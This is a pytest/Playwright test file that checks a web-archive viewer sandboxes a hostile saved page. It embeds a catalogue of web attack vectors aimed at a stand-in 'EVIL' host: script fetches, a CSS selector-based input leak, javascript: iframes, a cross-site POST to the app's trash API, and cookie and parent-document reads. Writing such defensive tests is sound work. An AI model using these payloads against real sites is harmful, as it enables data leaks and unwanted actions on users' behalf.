"""Hostile snapshots in real Chromium: nothing runs, nothing leaves, nothing reaches the viewer."""

from __future__ import annotations

import hashlib
import sys
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Page

from linkshot.store.records import SavedSnapshot
from linkshot.viewer.context import Viewer
from linkshot.viewer.run import start_address

sys.path.insert(0, str(Path(__file__).parents[1] / "viewer"))
from viewer_library import keep, opened, page, shown, viewer

__all__ = ["keep", "opened", "page", "shown", "viewer"]

pytestmark = pytest.mark.e2e

Keep = Callable[..., SavedSnapshot]

ZIP = b"PK\x03\x04 not a real archive"
HOSTILE = """<!doctype html><html><head><title>t</title>
<meta http-equiv="refresh" content="0;url=EVIL/refresh">
<base href="EVIL/base/">
<link rel="stylesheet" href="EVIL/s.css">
<link rel="preload" as="image" href="EVIL/preload.png">
<link rel="prefetch" href="EVIL/prefetch">
<link rel="dns-prefetch" href="EVIL/">
<link rel="preconnect" href="EVIL/">
<link rel="icon" href="EVIL/icon.png">
<link rel="manifest" href="EVIL/manifest.json">
<style>@import url(EVIL/i.css); body{background:url(EVIL/b.png)}
@font-face{font-family:x;src:url(EVIL/f.woff2)} p{font-family:x}
input[name^="a"]{background:url(EVIL/leak)}
p{cursor:url(EVIL/c.cur),auto;list-style-image:url(EVIL/l);border-image:url(EVIL/bi) 1;
mask:url(EVIL/m.svg#x);filter:url(EVIL/fl.svg#x);clip-path:url(EVIL/cp.svg#x)}
p::before{content:image-set(url(EVIL/is) 1x)}
@container style(--x){p{background:url(EVIL/co)}}</style>
<link rel="modulepreload" href="EVIL/module.js">
<script>document.title='ran'; fetch('EVIL/fetch')</script>
</head><body>
<p id="text">正文</p><input type="image" src="EVIL/ii">
<a id="download" download="x.zip" href="data:application/zip,x">zip</a><iframe src="ZIP.bin"></iframe>
<script src="EVIL/x.js"></script>
<script type="module">parent.postMessage('ran','*')</script>
<img src="EVIL/i.png" onerror="document.body.id='ran'">
<img srcset="EVIL/2x.png 2x" src="data:,">
<img src="APP/api/links"><iframe src="APP/"></iframe><iframe src="APP/api/links"></iframe>
<iframe src="EVIL/frame"></iframe>
<iframe srcdoc="<script>parent.document.body.id='ran'</script><img src=EVIL/d.png>"></iframe>
<iframe src="javascript:parent.document.body.id='ran'"></iframe>
<iframe src="data:text/html,<script>parent.postMessage('ran','*')</script>"></iframe>
<object data="EVIL/o"></object><embed src="EVIL/e">
<table background="EVIL/bg"><td>x</table><video src="EVIL/v.mp4" autoplay poster="EVIL/p.png"></video>
<audio src="EVIL/a.mp3" autoplay></audio>
<svg><image href="EVIL/s.png"/><use href="EVIL/u.svg#x"/></svg>
<form id="form" action="EVIL/form"><input name="a"><button id="send">send</button></form>
<form action="APP/api/trash" method="post"><button id="trash">trash</button></form>
<a id="out" href="EVIL/out">out</a>
<a id="self" target="_self" href="EVIL/self">self</a>
<a id="top" target="_top" href="EVIL/top">top</a>
<a id="script" href="javascript:document.body.id='ran'">script</a>
<a id="app" href="APP/">app</a>
<a id="ping" href="#end" ping="EVIL/ping">end</a>
<div style="height:4000px"></div><p id="end">end</p>
</body></html>"""


class Elsewhere(ThreadingHTTPServer):
    """A site on this machine that remembers what reached it."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Remembering)
        self.reached: list[str] = []


class Remembering(BaseHTTPRequestHandler):
    """Answers everything, so that nothing fails for want of an answer."""

    def do_GET(self) -> None:
        assert isinstance(self.server, Elsewhere)
        self.server.reached.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""


@pytest.fixture
def reached(page: Page, viewer: Viewer, keep: Keep) -> Iterator[list[str]]:
    """The hostile snapshot is open in the viewer; the list is what reached the site it names."""
    elsewhere = Elsewhere()
    threading.Thread(target=elsewhere.serve_forever, daemon=True).start()
    evil = f"http://127.0.0.1:{elsewhere.server_port}"
    html = HOSTILE.replace("APP", viewer.app_origin).replace("EVIL", evil)
    saved = keep(
        "https://a.example/",
        html.replace("ZIP", hashlib.sha256(ZIP).hexdigest()),
        files=((ZIP, "application/zip"),),
    )
    page.on("download", lambda _download: elsewhere.reached.append("a download"))
    page.goto(start_address(viewer, saved.link_id))
    page.wait_for_selector(".frame[data-state=shown]")
    page.wait_for_timeout(1500)
    yield elsewhere.reached
    elsewhere.shutdown()


def test_nothing_runs_and_nothing_leaves(page: Page, viewer: Viewer, reached: list[str]) -> None:
    frame = page.frame_locator(".frame iframe")
    assert frame.locator("body").get_attribute("id") is None
    assert frame.locator("#text").inner_text() == "正文"
    assert reached == []


@pytest.mark.parametrize(
    "target", ["#out", "#self", "#top", "#script", "#app", "#send", "#trash", "#download"]
)
def test_click_leaves_the_copy_where_it_is(
    page: Page, viewer: Viewer, reached: list[str], target: str
) -> None:
    page.frame_locator(".frame iframe").locator(target).click()
    page.wait_for_timeout(800)
    assert page.url.startswith(viewer.app_origin + "/")
    assert len(page.context.pages) == 1
    frame = page.frame_locator(".frame iframe")
    assert frame.locator("#text").inner_text() == "正文"
    assert frame.locator("body").get_attribute("id") is None
    assert reached == []


def test_link_inside_the_page_works(page: Page, viewer: Viewer, reached: list[str]) -> None:
    page.frame_locator(".frame iframe").locator("#ping").click()
    page.frame_locator(".frame iframe").locator("#end").wait_for(state="visible")
    page.wait_for_timeout(500)
    box = page.frame_locator(".frame iframe").locator("#end").bounding_box()
    assert box is not None
    assert box["y"] < 900
    assert reached == []


def test_snapshot_opened_by_itself_runs_nothing(
    page: Page, viewer: Viewer, reached: list[str]
) -> None:
    page.goto(f"{viewer.snapshot_root}/s/1/")
    page.wait_for_timeout(800)
    assert page.locator("body").get_attribute("id") is None
    assert reached == []


def test_frame_has_no_way_to_the_api(page: Page, viewer: Viewer, reached: list[str]) -> None:
    """Even a script that got in would stand in an opaque origin, refused by policy and server."""
    frame = next(one for one in page.frames if one.url.startswith(viewer.snapshot_root))
    answer = frame.evaluate(
        """async (app) => {
            const tried = {origin: self.origin, bridge: String(window.pywebview)};
            try { await fetch(app + '/api/links', {credentials: 'include'}); tried.fetch = 'answered'; }
            catch { tried.fetch = 'refused'; }
            try { tried.parent = String(parent.document.title); } catch { tried.parent = 'refused'; }
            try { tried.cookie = document.cookie; } catch { tried.cookie = 'refused'; }
            return tried;
        }""",
        viewer.app_origin,
    )
    assert answer == {
        "origin": "null",
        "bridge": "undefined",
        "fetch": "refused",
        "parent": "refused",
        "cookie": "refused",
    }
